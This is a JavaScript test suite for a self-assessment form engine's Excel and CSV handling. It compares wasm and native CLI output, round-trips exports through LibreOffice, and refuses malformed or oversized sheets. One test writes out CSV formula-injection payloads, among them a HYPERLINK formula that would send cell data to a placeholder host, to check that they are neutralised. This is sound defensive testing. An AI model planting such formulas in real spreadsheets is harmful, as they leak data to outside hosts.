// Excel and CSV through the wasm module: byte-identical to the native CLI, round trips,
// refusals as findings (never a thrown number), LibreOffice reading the export, files other
// programs wrote (LibreOffice, exceljs, .xls, GB18030 CSV) read alike natively and in wasm,
// hostile indicator lists refused with their limit, and CSV formula injection neutralised.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, readdirSync, writeFileSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { loadEngine, readText, root, runCli } from './helpers.mjs';
import { hostileLists } from './hostile_lists.mjs';

const cases = readdirSync(join(root, 'tests/golden')).filter((d) => existsSync(join(root, 'tests/golden', d, 'case.json')));

function session(Module, name) {
  const c = JSON.parse(readText(`tests/golden/${name}/case.json`));
  const s = new Module.Session();
  assert.equal(JSON.parse(s.loadTemplate(readText(c.template))).ok, true);
  assert.equal(JSON.parse(s.loadAnswers(readText(`tests/golden/${name}/answers.json`))).ok, true);
  return { s, c };
}

// RFC 4180 rows (quotes, doubled quotes, CRLF), BOM dropped.
export function parseCsv(text) {
  text = text.replace(/^\uFEFF/, '');
  const rows = []; let row = []; let f = ''; let q = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (q) { if (ch === '"') { if (text[i + 1] === '"') { f += '"'; i++; } else q = false; } else f += ch; continue; }
    if (ch === '"') q = true;
    else if (ch === ',') { row.push(f); f = ''; }
    else if (ch === '\n' || ch === '\r') { if (ch === '\r' && text[i + 1] === '\n') i++; row.push(f); rows.push(row); row = []; f = ''; }
    else f += ch;
  }
  if (f || row.length) { row.push(f); rows.push(row); }
  return rows;
}

test('wasm exports the same .xlsx and CSV bytes as the native CLI, and reads them back', async () => {
  const { Module, engine } = await loadEngine();
  const dir = mkdtempSync(join(tmpdir(), 'selfeval-xlsx-'));
  for (const name of cases) {
    const { s, c } = session(Module, name);
    const xlsx = s.exportXlsx();
    assert.ok(xlsx instanceof Uint8Array);
    const out = join(dir, name);
    const r = runCli(['export', '--template', join(root, c.template), '--answers', join(root, `tests/golden/${name}/answers.json`),
      '--xlsx', out + '.xlsx', '--csv', out + '.csv']);
    assert.equal(r.status, 0, r.stderr);
    assert.ok(Buffer.from(xlsx).equals(readFileSync(out + '.xlsx')), `${name}: xlsx bytes differ`);
    const csv = s.exportCsv();
    assert.ok(Buffer.from(csv).equals(readFileSync(out + '.csv')), `${name}: csv differs`);
    assert.deepEqual([...csv.slice(0, 3)], [0xEF, 0xBB, 0xBF]);
    const back = JSON.parse(engine.answersFromXlsx(xlsx));
    assert.equal(back.ok, true, name);
    assert.deepEqual(back.answers, JSON.parse(s.answers()), name);
    s.delete();
  }
});

test('bad workbooks come back as findings through wasm, and the module keeps working', async () => {
  const { Module, engine } = await loadEngine();
  for (const bytes of [new Uint8Array(0), new TextEncoder().encode('PK\x03\x04 not really'), new Uint8Array(5000).fill(0x50)]) {
    const r = JSON.parse(engine.answersFromXlsx(bytes));
    assert.equal(r.ok, false);
    assert.equal(r.findings[0].code, 'workbook.unreadable');
    assert.match(r.findings[0].message, /无法读取 Excel 文件/);
  }
  const t = JSON.parse(engine.templateFromSheet(new TextEncoder().encode('一级,三级,分值\n产出,培训,abc\n'), ''));
  assert.equal(t.ok, false);
  assert.equal(t.findings[0].code, 'table.bad_weight');
  // Bytes that are neither UTF-8 nor GB18030 (a cell that used to make the core throw, found by
  // the fuzzers): refused with the line named and what to do, and the module keeps working.
  const broken = Buffer.concat([Buffer.from('一级,二级,三级,年度指标值,分值\n产出,数量,'), Buffer.from([0xe5, 0x32]), Buffer.from(',1次,100\n')]);
  const u = JSON.parse(engine.templateFromSheet(new Uint8Array(broken), ''));
  assert.equal(u.ok, false);
  assert.equal(u.findings[0].code, 'table.unknown_encoding');
  assert.match(u.findings[0].message, /既不是 UTF-8，也不是 GB18030（GBK），第 2 行/);
  const { s } = session(Module, 'seed001-project');
  assert.equal(JSON.parse(s.result()).total, '100.00');
});

test('a template from an indicator list, in wasm as natively', async () => {
  const { engine } = await loadEngine();
  const csv = '一级,二级,三级,年度指标值,分值,方向,规则\n产出指标,数量指标,培训人数,≥15名/年,50,正向,\n效益指标,社会效益指标,投诉次数,≤5次,40,反向,\n满意度指标,满意度指标,满意度,≥90%,10,,\n';
  const dir = mkdtempSync(join(tmpdir(), 'selfeval-table-'));
  writeFileSync(join(dir, 'list.csv'), csv);
  const native = runCli(['template-from-sheet', join(dir, 'list.csv'), '--name', '培训']);
  assert.equal(native.status, 0, native.stderr);
  const wasm = JSON.parse(engine.templateFromSheet(new TextEncoder().encode(csv), '培训'));
  assert.equal(wasm.ok, true);
  assert.deepEqual(wasm.template, JSON.parse(native.stdout));
  assert.equal(JSON.parse(engine.checkTemplate(JSON.stringify(wasm.template))).ok, true);
});

test('LibreOffice opens the exported .xlsx and its CSV has the same numbers', () => {
  const dir = mkdtempSync(join(tmpdir(), 'selfeval-lo-'));
  const xlsx = join(dir, 'seed001.xlsx');
  const r = runCli(['export', '--template', join(root, 'schemas/templates/project-self-assessment.json'),
    '--answers', join(root, 'tests/golden/seed001-project/answers.json'), '--xlsx', xlsx, '--csv', join(dir, 'ours.csv')]);
  assert.equal(r.status, 0, r.stderr);
  execFileSync('soffice', ['--headless', '--norestore', '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76,1', '--outdir', join(dir, 'lo'), xlsx],
    { env: { ...process.env, HOME: dir }, stdio: 'pipe', timeout: 120000 });
  const lo = parseCsv(readFileSync(join(dir, 'lo', 'seed001.csv'), 'utf8'));
  const ours = parseCsv(readFileSync(join(dir, 'ours.csv'), 'utf8'));
  assert.equal(lo.length, ours.length);
  let numbers = 0;
  for (let i = 0; i < ours.length; i++) {
    for (let j = 0; j < ours[i].length; j++) {
      assert.equal(lo[i][j] ?? '', ours[i][j], `row ${i + 1} column ${j + 1}`);
      if (/^-?\d+(\.\d+)?$/.test(ours[i][j])) numbers++;
    }
  }
  // Budget figures, weights, scores, the total: all there and all equal.
  assert.ok(numbers >= 25, `only ${numbers} numbers compared`);
  const total = ours.find((row) => row[0] === '总分');
  assert.deepEqual(total.slice(5, 7), ['100', '100.00']);
});

const sheets = join(root, 'tests/data/sheets');

test('every file other programs wrote reads the same natively and in wasm, byte for byte', async () => {
  const { engine } = await loadEngine();
  const files = readdirSync(sheets).filter((f) => /\.(xlsx|xls|csv)$/.test(f));
  assert.ok(files.length >= 10, files.join());
  for (const f of files) {
    const bytes = new Uint8Array(readFileSync(join(sheets, f)));
    const list = f.startsWith('list.');
    const wasm = list ? engine.templateFromSheet(bytes, '培训') : engine.answersFromXlsx(bytes);
    const native = runCli(list ? ['template-from-sheet', join(sheets, f), '--name', '培训', '--json'] : ['import-xlsx', join(sheets, f), '--json']);
    assert.equal(native.status, 0, f + native.stderr);
    assert.equal(wasm + '\n', native.stdout, `${f}: native and wasm differ`);
    assert.equal(JSON.parse(wasm).ok, true, f);
  }
  // The GB18030 list is its UTF-8 twin.
  const twin = (f) => JSON.parse(engine.templateFromSheet(new Uint8Array(readFileSync(join(sheets, f))), '培训')).template;
  assert.deepEqual(twin('list.gb18030.csv'), twin('list.utf8.csv'));
  assert.equal(JSON.parse(engine.answersFromXlsx(new Uint8Array(readFileSync(join(sheets, 'seed001-percent.exceljs.xlsx'))))).answers.values.b1.actual, '95%');
});

test('hostile indicator lists: refused with the limit named, natively and in wasm alike', async () => {
  const { engine } = await loadEngine();
  const dir = mkdtempSync(join(tmpdir(), 'selfeval-hostile-'));
  const expect = { 'XFD1048576.xlsx': /第 1048576 行.*最多 30,000 行/, 'million-rows.csv': /超过 500 个指标（模板上限）/, 'eight-thousand.csv': null };
  for (const [name, bytes] of Object.entries(hostileLists())) {
    const start = process.hrtime.bigint();
    const wasm = engine.templateFromSheet(new Uint8Array(bytes), '');
    const ms = Number(process.hrtime.bigint() - start) / 1e6;
    writeFileSync(join(dir, name), bytes);
    const native = runCli(['template-from-sheet', join(dir, name), '--json']);
    assert.equal(wasm + '\n', native.stdout, name);
    const r = JSON.parse(wasm);
    if (expect[name]) {
      assert.equal(r.ok, false, name);
      assert.equal(r.findings[0].code, 'table.too_large');
      assert.match(r.findings[0].message_zh, expect[name]);
    } else {
      assert.equal(r.ok, true, name);
    }
    assert.ok(ms < 10000, `${name}: ${ms} ms (linear reading takes well under a second)`);
  }
});

test('CSV export: =1+1 and =HYPERLINK(…) in a form open in LibreOffice as text, not as formulas', () => {
  const dir = mkdtempSync(join(tmpdir(), 'selfeval-injection-'));
  const answers = JSON.parse(readText('tests/golden/seed001-project/answers.json'));
  answers.values.q1.reason = '=1+1';
  answers.values.q2.reason = '=HYPERLINK("http://example.invalid/?"&A1,"点击")';
  answers.values.b1.reason = '@SUM(1)';
  writeFileSync(join(dir, 'a.json'), JSON.stringify(answers));
  const r = runCli(['export', '--template', join(root, 'schemas/templates/project-self-assessment.json'), '--answers', join(dir, 'a.json'),
    '--csv', join(dir, 'form.csv')]);
  assert.equal(r.status, 0, r.stderr);
  // LibreOffice imports the CSV as it would open it (formulas evaluated), and saves it as .xlsx.
  execFileSync('soffice', ['--headless', '--norestore', '--infilter=CSV:44,34,76,1', '--convert-to', 'xlsx', '--outdir', join(dir, 'lo'), join(dir, 'form.csv')],
    { env: { ...process.env, HOME: dir }, stdio: 'pipe', timeout: 120000 });
  const sheet = execFileSync('unzip', ['-p', join(dir, 'lo', 'form.xlsx'), 'xl/worksheets/sheet1.xml']).toString();
  const strings = execFileSync('unzip', ['-p', join(dir, 'lo', 'form.xlsx'), 'xl/sharedStrings.xml']).toString();
  assert.doesNotMatch(sheet, /<f[ >]/, 'no cell became a formula');
  assert.match(strings, /&apos;=1\+1</);
  assert.match(strings, />&apos;=HYPERLINK\(&quot;http:\/\/example.invalid\/\?&quot;&amp;A1,&quot;</);  // text (in runs of two fonts)
  assert.match(strings, /&apos;@SUM\(1\)</);
  // Numbers stay numbers: the total is still a number cell.
  assert.match(sheet, /<c r="G\d+" s="\d+" t="n"><v>100<\/v><\/c>/);
});
